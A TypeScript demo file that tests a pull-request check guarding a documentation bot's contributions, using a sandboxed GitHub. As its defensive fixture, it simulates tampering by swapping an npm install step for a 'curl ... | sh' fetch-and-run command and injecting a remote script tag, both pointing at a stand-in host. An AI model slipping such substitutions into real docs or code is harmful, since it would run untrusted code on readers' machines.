import * as v from 'valibot';
import { type GitHubClient, githubClient } from '../github/client.ts';
import { deletePage, editPage, proposeSentence } from '../github/proposals.ts';
import { DOCS_REPOSITORY, type Person } from '../github/seed.ts';
import type { StepResult } from '../runner/runner.ts';
import type { Sandbox } from '../sandbox.ts';
import { heading, plainComment, styled } from '../terminal.ts';
import { type Bundle, DemoError, type DemoOutput, runDemoStep } from './steps.ts';

/** Judges a pull request of the agent before it is merged. @throws {DemoError} When it is blocked. */
export async function checkAgentPull(
  check: Bundle,
  link: string,
  sandbox: Sandbox,
  output: DemoOutput,
): Promise<void> {
  const title = 'Before anyone merges it, the check judges its form. The log of the step:';
  const run = 'the check judges the pull request';
  const { outputs } = await runCheck(
    check,
    { title, run, number: numberOf(link) },
    sandbox,
    output,
  );
  if (outputs['verdict'] !== 'routine' && outputs['verdict'] !== 'review') {
    throw new DemoError('The pull request of the agent was blocked');
  }
}

/**
 * Judges a pull request of the agent to whose branch somebody pushed something else.
 *
 * @throws {DemoError} When it is not blocked.
 */
export async function checkTamperedPull(
  check: Bundle,
  sandbox: Sandbox,
  output: DemoOutput,
): Promise<void> {
  output.print(heading('Somebody pushes to the branch of another pull request of the agent'));
  output.print('They change the install command, add a script, and delete a page.');
  const number = await openTampered(sandbox);
  const title = 'The check judges that one. The log of the step:';
  const run = 'the check judges one that was tampered with';
  const { outputs, summary } = await runCheck(check, { title, run, number }, sandbox, output);
  if (outputs['verdict'] !== 'blocked' || !summary.includes('leads nowhere')) {
    throw new DemoError('The pull request that was tampered with was not blocked');
  }
  const maintainer = clientOf('maintainer', sandbox);
  const [comment] = await maintainer.listComments(DOCS_REPOSITORY, number);
  if (comment !== undefined) {
    output.print(heading('The comment on the pull request:'));
    output.print(styled('magenta', plainComment(comment.user.login, comment.body)));
  }
}

async function runCheck(
  check: Bundle,
  { title, run, number }: { title: string; run: string; number: number },
  sandbox: Sandbox,
  output: DemoOutput,
): Promise<StepResult> {
  const result = await runDemoStep(
    check,
    {
      title,
      repository: DOCS_REPOSITORY,
      eventName: 'pull_request_target',
      actor: 'docs-agent[bot]',
      event: await eventOf(number, sandbox),
      inputs: { comment: 'true', readers: 'true' },
    },
    sandbox,
    output,
  );
  const { verdict, 'head-sha': headSha } = result.outputs;
  output.print(`verdict=${verdict}, head-sha=${headSha}`);
  output.addSection({ title: `Summary of the run: ${run}`, markdown: result.summary });
  return result;
}

/** The event with its payload, as GitHub would send it. */
async function eventOf(number: number, sandbox: Sandbox): Promise<unknown> {
  const path = `/repos/${DOCS_REPOSITORY}`;
  const maintainer = clientOf('maintainer', sandbox);
  return {
    action: 'synchronize',
    number,
    pull_request: await maintainer.request('GET', `${path}/pulls/${number}`, v.unknown()),
    repository: await maintainer.request('GET', path, v.unknown()),
    sender: { login: 'docs-agent[bot]', type: 'Bot' },
  };
}

/** @returns The number of the pull request. */
async function openTampered(sandbox: Sandbox): Promise<number> {
  const branch = 'first-build';
  const agent = githubClient(sandbox.github.url, sandbox.github.tokens.docsAgent);
  const number = await proposeSentence(agent, branch);
  const writer = clientOf('writer', sandbox);
  await editPage(writer, branch, 'quickstart.mdx', (text) =>
    text
      .replace('npm install acme', 'curl https://install.example/acme.sh | sh')
      .concat('\n<script src="https://install.example/count.js" />\n'),
  );
  await deletePage(writer, branch, 'guides/deploy.mdx');
  return number;
}

function clientOf(login: Person, { github }: Sandbox): GitHubClient {
  return githubClient(github.url, github.tokens[login]);
}

function numberOf(link: string): number {
  return Number(link.split('/').at(-1));
}
